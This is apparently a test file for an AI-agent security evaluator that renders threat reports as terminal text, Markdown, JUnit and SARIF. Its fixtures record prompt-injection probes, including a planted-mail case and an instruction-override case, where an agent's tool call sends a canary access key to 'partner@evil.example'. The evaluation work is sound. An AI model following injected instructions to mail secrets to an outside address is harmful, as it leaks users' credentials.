import type { ThreatReport } from '@plugin-eval/core/documents/threat-report.ts';
import {
  agentTarget,
  hangingCase,
  liveThreatReport,
  mailCase,
} from '@plugin-eval/tests/support/live-threat-documents.ts';
import { readXml } from '@plugin-eval/tests/support/read-xml.ts';
import { renderThreatMarkdown, renderThreatText } from '@plugin-eval/tests/support/rendered-documents.ts';
import { reportThreat } from '@plugin-eval/tests/support/threat-documents.ts';
import { describe, expect, test } from 'vitest';
import { renderThreatJunit } from './threat-junit.ts';
import { renderThreatSarif } from './threat-sarif.ts';

const live = liveThreatReport();

const textOf = (report: ThreatReport, verbosity: 'quiet' | 'normal' | 'verbose' | 'explain' = 'normal') =>
  renderThreatText(report, { color: false, width: null, verbosity });
const resultsOf = (report: ThreatReport) =>
  JSON.parse(renderThreatSarif(report, { docsUrl: 'https://docs.example' })).runs[0];

describe('the terminal', () => {
  test('says what answered, how the sessions went and what they cost, after the verdict', () => {
    const lines = textOf(live).split('\n');
    const at = lines.findIndex((line) => line.startsWith('  Target'));
    expect(at).toBeGreaterThan(lines.findIndex((line) => line.startsWith('  False refusals')));
    expect(lines[at]).toContain(
      'agent, anthropic:stand-in-1, driver claude-agent 0.3.330, skill installed: minutes',
    );
    expect(lines.slice(at + 1, at + 7).map((line) => line.trim().split(/ {2,}/)[0])).toEqual([
      'Sessions',
      'Failed',
      'Errored',
      'Not met',
      'Skill loaded',
      'Cost',
    ]);
    expect(textOf(reportThreat())).not.toContain('  Target');
  });

  test('names the reasons of what brought no answer, and the calls of the worst cases', () => {
    const text = textOf(live);
    expect(text).toContain('! Incomplete: 2 sessions brought no response that could be scored.');
    expect(text).toContain('error ih-override: It ended at the limit of 12 answers (turn-limit).');
    expect(text).toContain('Tool call 2: send_mail {"to":"partner@evil.example"');
  });
});

describe('Markdown', () => {
  test('has the live run as a table, and the reasons of what is missing', () => {
    const lines = renderThreatMarkdown(live);
    expect(lines).toContain('- Sessions: **29 of 31 answered** (each probe and each harmless twin once)');
    expect(lines).toContain('- Failed: **1 session**');
    expect(lines).toContain('## No response that could be scored (2)');
    expect(renderThreatMarkdown(reportThreat())).not.toContain('Live run');
  });
});

describe('JUnit', () => {
  test('a failure names the tool call, and how the session ended', () => {
    const suites = readXml(renderThreatJunit(liveThreatReport({}, [hangingCase()]))).children;
    const failure = suites[0]?.children[0]?.children[0];
    expect(failure?.attributes.message).toContain('Tool call 2: send_mail {"to":"partner@evil.example"');
    expect(failure?.text).toContain('canary:access_key in tool call 2 (send_mail): TBX-7f3Q-91kd');
    expect(failure?.text).toContain('Session: The session failed on the way: time-limit');
  });
});

describe('SARIF', () => {
  test('a result names the tool call; its place is the SKILL.md of the skill', () => {
    const { results, properties } = resultsOf(liveThreatReport({}, [mailCase()]));
    expect(results[0].message.text).toContain('Tool call 2: send_mail {{"to":"partner@evil.example"');
    expect(results[0].locations[0].physicalLocation.artifactLocation.uri).toBe('skills/minutes/SKILL.md');
    expect(results[0].properties.session).toBe('f'.repeat(64));
    expect(properties).toMatchObject({ target: 'agent', model: 'anthropic:stand-in-1' });
  });

  test.each([
    ['a path that names the file', 'skills/minutes/SKILL.md'],
    ['a path with a slash behind it', 'skills/minutes/'],
  ])('%s is not doubled', (_, path) => {
    const target = agentTarget({ skills: [{ name: 'minutes', path, hash: 'd' }] });
    const [result] = resultsOf(liveThreatReport({ target }, [mailCase()])).results;
    expect(result.locations[0].physicalLocation.artifactLocation.uri).toBe('skills/minutes/SKILL.md');
  });

  test('a model has no file, and no place but the case', () => {
    const target = agentTarget({ kind: 'model', skills: null, driver: null });
    const { results, invocations } = resultsOf(liveThreatReport({ target }, [mailCase()]));
    expect(results[0].locations[0]).not.toHaveProperty('physicalLocation');
    expect(results[0].locations[0].logicalLocations[0].name).toBe('mc-planted-mail');
    expect(invocations[0].toolExecutionNotifications[0]).not.toHaveProperty('locations');
  });
});
